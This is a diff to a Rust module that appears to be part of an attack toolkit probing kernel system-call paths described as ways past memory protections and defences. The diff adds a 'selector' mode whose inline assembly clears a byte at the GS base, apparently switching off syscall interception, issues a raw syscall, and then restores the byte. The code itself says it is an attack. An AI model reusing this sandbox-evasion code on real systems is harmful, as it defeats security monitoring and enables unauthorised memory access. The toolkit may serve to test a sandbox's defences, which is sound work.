@@ -1,7 +1,7 @@
 //! Doors of the kernel through which memory can be read and written past all keys, or the defences be switched off.
 //!
-//! `what` names the system call. `how` says who makes it: `syscall` or `int80` (an instruction of one's own), `libc` (its
-//! function `syscall`), or `instruction` (the system-call instruction in there, with every register chosen).
+//! `what` names the system call. `how` says who makes it: `syscall` or `int80` (an instruction of one's own), `selector` (the
+//! same, having switched dispatch off), `libc` (its function `syscall`), or `instruction` (the system-call instruction in there, with every register chosen).
 
 use crate::leap::{Registers, leap};
 use crate::{Attack, Booty};
@@ -66,6 +66,22 @@ fn open(attack: &Attack, number: u64, [a, b, c, d, e, f]: [u64; 6]) -> Result<u6
             unsafe {
                 asm!(
                     "syscall",
+                    inlateout("rax") number => answer,
+                    in("rdi") a, in("rsi") b, in("rdx") c, in("r10") d, in("r8") e, in("r9") f,
+                    lateout("rcx") _, lateout("r11") _,
+                );
+            }
+        }
+        // The same, after having told the kernel to let it pass.
+        "selector" => {
+            // SAFETY: none; it is an attack.
+            unsafe {
+                asm!(
+                    "rdgsbase rcx",
+                    "mov byte ptr [rcx + 8], 0",
+                    "syscall",
+                    "rdgsbase rcx",
+                    "mov byte ptr [rcx + 8], 1",
                     inlateout("rax") number => answer,
                     in("rdi") a, in("rsi") b, in("rdx") c, in("r10") d, in("r8") e, in("r9") f,
                     lateout("rcx") _, lateout("r11") _,
